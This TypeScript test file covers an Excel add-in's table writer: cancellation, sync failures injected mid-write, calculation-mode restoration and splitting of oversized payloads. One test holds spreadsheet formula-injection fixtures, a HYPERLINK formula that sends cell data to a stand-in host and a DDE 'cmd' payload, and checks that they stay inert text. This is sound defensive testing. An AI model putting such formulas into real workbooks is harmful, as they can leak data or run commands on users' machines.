/**
 * A cancelled or failed write leaves the previous table exactly as it was; the calculation mode comes back;
 * a sync refused as too large is retried in halves.
 */

import { ExcelWorkbookPort } from '../../../src/hosts/excel/excel-workbook-port';
import { SimError, WEB_PAYLOAD_LIMIT_BYTES } from '../../../src/preview/excel-sim';
import { asUser, ids, installSim, sheetSnapshot, TRANSACTIONS, transaction, transactions, type Sim } from './sim-setup';

let sim: Sim;
beforeEach(() => {
  sim = installSim();
});
afterEach(() => sim.uninstall());

/** Small blocks, so a few hundred rows take 10–14 syncs (each one a failure point below). */
const smallBlocks = new ExcelWorkbookPort({ budgetBytes: 16_000 });

async function oldTable(rows: number): Promise<void> {
  await new ExcelWorkbookPort().writeTable(TRANSACTIONS, transactions(ids(1, rows)));
  await asUser(sim, async (context) => {
    const table = context.workbook.tables.getItem('Transactions');
    table.columns.add(undefined, [['Note'], ...ids(1, rows).map((i) => [`'=note ${i}`])]);
    table.columns.add(undefined, [['Double'], ...ids(1, rows).map(() => [''])]);
    await context.sync();
    context.workbook.worksheets.getItem('Data').getRange(`H2:H${rows + 1}`).formulas = ids(2, rows).map((r) => [`=C${r}*2`]);
    await context.sync();
  });
}

const state = (): unknown => sheetSnapshot(sim);

type Mode = 'refused' | 'applied-then-failed';

/** Makes the n-th sync from now fail once: refused before anything applies, or applied with its answer lost. */
function failSync(n: number, mode: Mode): void {
  const engine = sim.workbook.engine;
  const execute = engine.execute.bind(engine);
  let count = 0;
  engine.execute = (actions) => {
    count += 1;
    if (count !== n) return execute(actions);
    if (mode === 'applied-then-failed') execute(actions);
    throw new SimError('GeneralException', 'Injected connection failure');
  };
}

async function syncsOfSuccessfulWrite(oldRows: number, newIds: number[]): Promise<number> {
  await oldTable(oldRows);
  sim.workbook.stats.reset();
  await smallBlocks.writeTable(TRANSACTIONS, transactions(newIds));
  return sim.workbook.stats.syncCount;
}

describe('cancel', () => {
  it('aborting after the first chunk leaves the old table, user columns included', async () => {
    await oldTable(120);
    const before = state();
    const controller = new AbortController();
    const progress: number[] = [];
    const write = smallBlocks.writeTable(TRANSACTIONS, transactions(ids(50, 400)).reverse(), {
      signal: controller.signal,
      onProgress: (written) => {
        progress.push(written);
        controller.abort();
      },
    });
    await expect(write).rejects.toMatchObject({ name: 'AbortError' });
    expect(progress).toHaveLength(1);
    expect(state()).toEqual(before);
    expect(sim.workbook.state.calculationMode).toBe('Automatic');
  });

  it("a cancelled refresh puts the service's texts back as text, though the user had made their column General", async () => {
    const hostile = ['=HYPERLINK("http://evil.invalid/?"&A1,"x")', '=1+1', "=cmd|' /C calc'!A0"];
    const rows = transactions(ids(1, 120)).map((r, i) => (i < 3 ? { ...r, purpose: hostile[i] ?? '' } : r));
    await new ExcelWorkbookPort().writeTable(TRANSACTIONS, rows);
    await asUser(sim, async (context) => {
      const purpose = context.workbook.tables.getItem('Transactions').columns.getItem('Purpose').getDataBodyRange();
      purpose.numberFormat = Array.from({ length: 120 }, () => ['General']);
      await context.sync();
    });
    const controller = new AbortController();
    const write = smallBlocks.writeTable(TRANSACTIONS, transactions(ids(50, 400)).reverse(), {
      signal: controller.signal,
      onProgress: () => controller.abort(),
    });
    await expect(write).rejects.toMatchObject({ name: 'AbortError' });
    const column = TRANSACTIONS.columns.findIndex((c) => c.key === 'purpose');
    for (const [i, text] of hostile.entries())
      expect(sim.workbook.cell('Data', i + 1, column).result).toMatchObject({ kind: 'String', value: text });
  });

  it('an already aborted signal touches nothing', async () => {
    await oldTable(5);
    const syncs = sim.workbook.stats.syncCount;
    await expect(smallBlocks.writeTable(TRANSACTIONS, transactions([1]), { signal: AbortSignal.abort() })).rejects.toMatchObject({
      name: 'AbortError',
    });
    expect(sim.workbook.stats.syncCount).toBe(syncs);
  });
});

describe('failure in the middle of a multi-chunk write', () => {
  // Growing (120 → 300 rows, rows added in later chunks) and shrinking (300 → 90 rows, rows deleted at the end).
  const cases: Array<[string, number, number[]]> = [
    ['growing', 120, ids(60, 300).reverse()],
    ['shrinking', 300, ids(200, 90)],
  ];
  for (const [label, oldRows, newIds] of cases) {
    for (const mode of ['refused', 'applied-then-failed'] as const) {
      it(`${label}: a sync that fails (${mode}) at any point leaves the old table and the calculation mode`, async () => {
        // Every sync of the write but Excel.run's closing one (sent after the write has succeeded).
        const total = await syncsOfSuccessfulWrite(oldRows, newIds);
        expect(total).toBeGreaterThan(8);
        for (let n = 1; n < total; n += 1) {
          sim.uninstall();
          sim = installSim();
          await oldTable(oldRows);
          const before = state();
          sim.workbook.stats.reset();
          failSync(n, mode);
          await expect(smallBlocks.writeTable(TRANSACTIONS, transactions(newIds))).rejects.toThrow('Injected connection failure');
          expect([n, state()]).toEqual([n, before]);
          expect([n, sim.workbook.state.calculationMode]).toEqual([n, 'Automatic']);
        }
      }, 120_000);
    }
  }

  it('sets Manual calculation for the write, suspends calculation and screen updating in every chunk, restores the mode', async () => {
    await oldTable(50);
    await asUser(sim, async (context) => {
      context.application.calculationMode = 'AutomaticExceptTables';
      await context.sync();
    });
    sim.workbook.stats.reset();
    const result = await smallBlocks.writeTable(TRANSACTIONS, transactions(ids(1, 200)));
    const syncs = sim.workbook.stats.syncs;
    const writes = syncs.filter((s) => s.calculationSuspended);
    expect(writes.length).toBe(result.chunks);
    expect(writes.every((s) => s.screenUpdatingSuspended)).toBe(true);
    expect(writes.slice(1).every((s) => s.calculationMode === 'Manual')).toBe(true);
    expect(sim.workbook.state.calculationMode).toBe('AutomaticExceptTables');
  });
});

describe('payload errors', () => {
  it('halves a block that Excel on the web refuses as too large and still writes every row', async () => {
    const long = 'x'.repeat(3_000);
    const rows = ids(1, 4_000).map((id) => ({ ...transaction(id), purpose: `${id} ${long}` }));
    // A budget far above the cap: the first blocks are refused and must be split.
    const result = await new ExcelWorkbookPort({ budgetBytes: 64 * 1024 * 1024 }).writeTable(TRANSACTIONS, rows);
    const { stats } = sim.workbook;
    expect(stats.failedSyncs.length).toBeGreaterThan(0);
    expect(stats.failedSyncs.every((s) => s.errorCode === 'RequestPayloadSizeLimitExceeded')).toBe(true);
    expect(stats.syncs.filter((s) => s.errorCode === undefined).every((s) => s.requestBytes <= WEB_PAYLOAD_LIMIT_BYTES)).toBe(true);
    expect(result.rowsWritten).toBe(4_000);
    expect(sim.workbook.values('Data', 'D4001')).toEqual([[`4000 ${long}`]]);
    expect(sim.workbook.tables()[0]?.address).toBe('Data!A1:F4001');
  });
});

describe('failure while creating a table', () => {
  for (const sheetName of ['Data', 'Fresh']) {
    it(`leaves no table, cells or ${sheetName === 'Data' ? 'formats' : 'sheet'} behind (sheet ${sheetName})`, async () => {
      const spec = { ...TRANSACTIONS, sheetName };
      await smallBlocks.writeTable(spec, transactions(ids(1, 200)));
      const total = sim.workbook.stats.syncCount;
      for (let n = 1; n < total; n += 1) {
        sim.uninstall();
        sim = installSim();
        failSync(n, 'applied-then-failed');
        await expect(smallBlocks.writeTable(spec, transactions(ids(1, 200)))).rejects.toThrow('Injected connection failure');
        expect([n, sim.workbook.sheetNames(), sim.workbook.tables(), sim.workbook.numberFormats('Data')]).toEqual([
          n,
          ['Data', 'Summary'],
          [],
          [],
        ]);
        expect(sim.workbook.state.calculationMode).toBe('Automatic');
      }
    });
  }
});
